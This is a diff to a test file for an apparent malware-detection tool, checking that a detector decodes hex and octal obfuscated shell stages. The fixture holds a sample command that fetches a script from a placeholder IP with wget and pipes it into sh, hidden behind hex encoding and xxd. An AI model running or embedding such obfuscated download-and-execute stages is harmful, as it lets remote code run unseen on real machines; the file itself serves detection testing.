@@ -6,7 +6,6 @@ from pathlib import Path
 from detonate.detect import runtime_findings
 from detonate.detect.correlations.shell_text import ShellText, analyse
 from detonate.model.findings import Confidence
-from static.rootfs_builder import SampleFile, build_rootfs
 
 from .stream import Stream
 from .written_files import written
@@ -16,12 +15,11 @@ HEX = b"wget -q -O- http://203.0.113.90/hx.sh | sh".hex()
 OCTAL = "".join(f"\\{ord(c):03o}" for c in "echo octal-ok > /tmp/.ho")
 
 
-def test_image_script_with_hex_and_octal_stages_is_decoded_and_reanalysed(tmp_path: Path) -> None:
+def test_image_script_with_hex_and_octal_stages_is_decoded_and_reanalysed() -> None:
     script = f"#!/bin/sh\necho {HEX} | xxd -r -p | sh\nsh -c \"$(printf '{OCTAL}')\"\n"
-    rootfs = build_rootfs(tmp_path, [SampleFile("/entry.sh", script.encode(), 0o755)])
     s = Stream()
     s.exec(1, "/bin/sh", "/entry.sh", path="/bin/sh")
-    run = replace(s.view(), rootfs=rootfs)
+    run = replace(s.view(), image_files={"/entry.sh": script.encode()})
     rules = {f.rule_id: f for f in DETECTOR.detect(run)}
     assert {"decode-to-shell", "obfuscated-command-stage", "download-pipe-shell"} <= set(rules)
     decoding = rules["decode-to-shell"]
@@ -34,6 +32,7 @@ def test_image_script_with_hex_and_octal_stages_is_decoded_and_reanalysed(tmp_pa
     assert downloaded.path == "/entry.sh"
     assert "decoded stage 1" in downloaded.description
     assert downloaded.process == ("[1] /bin/sh /entry.sh",)
+    assert "/entry.sh" in run.image_paths_read  # what a run record keeps of the image
 
 
 def test_eval_of_a_downloaded_variable_in_a_shebang_script(tmp_path: Path) -> None:
